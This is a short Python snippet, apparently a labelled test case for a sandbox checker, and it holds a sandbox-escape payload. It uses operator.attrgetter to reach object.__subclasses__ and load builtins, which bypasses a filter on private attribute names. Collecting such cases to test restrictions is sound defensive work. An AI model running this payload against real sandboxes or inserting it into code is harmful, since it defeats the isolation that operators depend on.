# tries: private names after a dot
# class: operator
# bare: gate
import operator
for c in operator.attrgetter("real.__class__.__base__.__subclasses__")(1)():
    try: use(c.load_module("builtins"))
    except Exception: pass
